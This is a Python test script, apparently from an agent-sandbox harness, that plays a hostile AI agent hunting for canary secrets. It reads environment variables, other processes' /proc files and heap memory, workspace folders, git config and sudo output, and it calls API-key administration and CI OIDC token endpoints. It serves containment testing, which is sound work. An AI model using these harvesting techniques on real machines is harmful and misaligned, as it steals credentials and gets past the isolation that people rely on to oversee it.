"""A hostile agent: looks for secrets wherever it can get to, and writes what it found to the file in its argument.

It runs in the place of an agent, with nothing but the standard library. A canary is a word of a known shape; the shape
is put together here, so that this file is not what it finds.
"""

from __future__ import annotations

import contextlib
import os
import re
import subprocess
import sys
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path

SHAPE = re.compile(("cana" + r"ry-[a-z-]+-[0-9a-f]{16}").encode())
SECONDS = 5


def environment() -> Iterator[bytes]:
    yield "\n".join(f"{name}={value}" for name, value in os.environ.items()).encode()


def processes() -> Iterator[bytes]:
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            for name in ("environ", "cmdline"):
                with contextlib.suppress(OSError):
                    yield (entry / name).read_bytes()
            with contextlib.suppress(OSError):
                for handle in (entry / "fd").iterdir():
                    if handle.is_file() and handle.stat().st_size < 1_000_000:
                        yield handle.read_bytes()


def memory() -> Iterator[bytes]:
    """What the worker has in its memory, when the kernel lets us."""
    parent = Path(f"/proc/{os.getppid()}")
    for process in (parent, *(Path(f"/proc/{pid}") for pid in ancestors())):
        with contextlib.suppress(OSError, ValueError):
            regions = (process / "maps").read_text().splitlines()
            with (process / "mem").open("rb") as file:
                for line in regions:
                    if "[heap]" in line:
                        begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                        file.seek(begin)
                        yield file.read(min(end - begin, 50_000_000))


def ancestors() -> Iterator[int]:
    pid = os.getpid()
    while pid > 1:
        with contextlib.suppress(OSError):
            pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
            yield pid
            continue
        return


def files(*roots: str) -> Iterator[bytes]:
    for root in roots:
        for folder, _, names in os.walk(root):
            for name in names:
                path = Path(folder) / name
                with contextlib.suppress(OSError):
                    if path.is_file() and path.stat().st_size < 1_000_000:
                        yield path.read_bytes()


def commands(helper: str) -> Iterator[bytes]:
    """Git's configuration, becoming root, and a program that runs as root for everybody."""
    for argv in (
        ["git", "config", "--list", "--show-origin"],
        ["git", "remote", "-v"],
        ["sudo", "-n", "cat", "/proc/1/environ"],
        *([helper, path] for path in sys.argv[4:]),
    ):
        with contextlib.suppress(OSError, subprocess.TimeoutExpired):
            done = subprocess.run(argv, capture_output=True, timeout=SECONDS, check=False)
            yield done.stdout + done.stderr


def network(bot: str) -> Iterator[bytes]:
    """What answers on this machine: the bot, the runner's identity service, and the door to the model."""
    key = os.environ.get("ANTHROPIC_API_KEY", "")
    door = os.environ.get("ANTHROPIC_BASE_URL", bot)
    runner = os.environ.get("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "")
    asked = [
        ("GET", f"{door}/v1/organizations/api_keys", {"x-api-key": key}),
        ("POST", f"{door}/v1/organizations/api_keys", {"x-api-key": key}),
        ("POST", f"{door}/v1/messages", {"x-api-key": key}),
        ("GET", f"{bot}/oidc?audience=x", {"Authorization": f"Bearer {runner}"}),
        ("POST", f"{bot}/api/v1/attempts/att-1/handoff", {}),
    ]
    for method, url, headers in asked:
        request = urllib.request.Request(url, b"{}" if method == "POST" else None, headers, method=method)  # noqa: S310 - addresses of this test
        try:
            with urllib.request.urlopen(request, timeout=SECONDS) as answer:  # noqa: S310
                yield answer.read(1_000_000)
        except urllib.error.HTTPError as error:
            yield error.read(1_000_000)
        except OSError:
            continue


def main(loot: str, bot: str, helper: str, *places: str) -> None:
    found: set[bytes] = set()
    workspace = Path.cwd().parent
    # A folder that cannot be listed is no secret to who has read how workspaces are made.
    here = [str(workspace), *(str(workspace / name) for name in ("private", "box", "home")), str(Path.home())]
    roots = [*here, *(str(Path(place).parent) for place in places)]
    for source in (environment(), processes(), memory(), files(*roots), commands(helper), network(bot)):
        for data in source:
            found |= set(SHAPE.findall(data))
    Path(loot).write_bytes(b"\n".join(sorted(found)))


if __name__ == "__main__":
    main(*sys.argv[1:])
